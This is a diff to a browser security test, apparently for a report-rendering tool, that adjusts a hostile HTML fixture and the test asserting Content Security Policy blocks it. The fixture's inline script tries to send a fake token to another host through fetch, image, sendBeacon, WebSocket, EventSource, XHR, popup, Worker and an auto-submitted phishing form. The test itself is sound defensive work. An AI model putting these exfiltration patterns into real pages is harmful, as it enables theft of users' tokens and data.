@@ -74,15 +74,22 @@ def hostile_page(other: str) -> str:
 <form id="phish" action="{other}/form" method="post"><input name="token" value="dal_stolen"></form>
 <script>
   document.getElementById("said").textContent = "the inline script ran";
-  fetch("{other}/fetch?token=dal_stolen").catch(() => {{}});
-  new Image().src = "{other}/image-from-js";
+  const sent = [
+    fetch("{other}/fetch?token=dal_stolen").catch(() => {{}}),
+    new Promise((done) => {{ const i = new Image(); i.onload = i.onerror = done; i.src = "{other}/image-from-js"; }}),
+  ];
   try {{ navigator.sendBeacon("{other}/beacon", "dal_stolen"); }} catch (e) {{}}
   try {{ new WebSocket("{other.replace("http", "ws")}/websocket"); }} catch (e) {{}}
   try {{ new EventSource("{other}/event-source"); }} catch (e) {{}}
   try {{ const x = new XMLHttpRequest(); x.open("GET", "{other}/xhr"); x.send(); }} catch (e) {{}}
   try {{ window.open("{other}/popup"); }} catch (e) {{}}
   try {{ new Worker("{other}/worker.js"); }} catch (e) {{}}
-  setTimeout(() => {{ try {{ document.getElementById("phish").submit(); }} catch (e) {{}} }}, 300);
+  // The form goes last, once the page and its other tries are answered or refused: its
+  // navigation would cancel a request still on its way (on a busy machine, 300 ms is not
+  // enough for them to leave).
+  addEventListener("load", () => Promise.allSettled(sent).then(() => setTimeout(() => {{
+    try {{ document.getElementById("phish").submit(); }} catch (e) {{}}
+  }}, 300)));
 </script>
 </body></html>"""
 
@@ -121,7 +128,7 @@ def test_a_report_page_contacts_no_other_host(sqlite_url, browser):
                     violations.append(m.text) if "Content Security Policy" in m.text else None
                 ),
             )
-            # The form, sent after 300 ms, is the page's last try: Chromium says it refused it.
+            # The form, sent after the rest, is the page's last try: Chromium says it refused it.
             with page.expect_console_message(
                 lambda m: f"{other.url}/form" in m.text, timeout=10_000
             ):
